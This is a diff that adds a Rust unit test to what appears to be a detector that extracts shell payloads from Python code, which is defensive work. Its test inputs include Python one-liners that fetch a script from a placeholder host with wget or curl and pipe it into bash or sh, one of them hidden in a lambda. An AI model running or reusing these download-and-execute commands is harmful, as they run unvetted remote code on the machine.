@@ -260,6 +260,30 @@ fn command_lines_handed_to_a_shell_are_shell_payloads() {
 }
 
 #[test]
+fn a_shell_command_inside_a_rendered_call_is_still_a_shell_payload() {
+    // The outer `print` is rendered whole (its argument resolves through `__import__`), so the walk does
+    // not descend into it; the command line it wraps is a payload all the same.
+    let text = "print(__import__('subprocess').getoutput('cd /tmp && wget https://dl.example.invalid/s -O s.sh && bash s.sh'))\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    let shells: Vec<&str> = resolved
+        .renditions
+        .iter()
+        .filter(|r| r.shell)
+        .map(|r| r.code.as_str())
+        .collect();
+    assert_eq!(
+        shells,
+        ["cd /tmp && wget https://dl.example.invalid/s -O s.sh && bash s.sh\n"]
+    );
+    // A lambda in the arguments runs later, if at all: its calls are not the outer call's.
+    let text = "print(__import__('os').getcwd(), key=lambda: __import__('os').system('curl -s https://dl.example.invalid/x | sh'))\n";
+    let tree = parse(Grammar::Python, text).unwrap();
+    let resolved = evaluate_tree(tree.root_node(), text, Grammar::Python);
+    assert!(resolved.renditions.iter().all(|r| !r.shell));
+}
+
+#[test]
 fn an_exec_reached_through_an_alias_is_also_written_with_its_arguments_as_written() {
     let found = python(concat!(
         "import base64\n",
